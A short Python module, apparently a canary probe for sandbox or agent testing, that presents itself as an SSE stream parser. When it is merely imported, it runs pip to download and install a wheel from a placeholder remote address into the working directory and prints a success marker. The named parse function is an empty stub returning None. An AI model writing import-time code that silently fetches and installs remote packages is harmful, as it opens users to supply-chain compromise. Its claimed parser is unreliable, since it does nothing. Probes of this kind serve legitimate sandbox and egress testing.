"""Installs a ready parser with pip while it is loaded."""

import subprocess
import sys

WON = "ZOO-" + "WON "
done = subprocess.run(
    [sys.executable, "-m", "pip", "install", "--target", ".", "--timeout", "1", "--retries", "0", "@CANARY@/wheel.whl"],
    capture_output=True, timeout=20,
)  # fmt: skip
if done.returncode == 0:
    print(WON + "pip")


def parse_sse_stream(raw_stream):
    return None
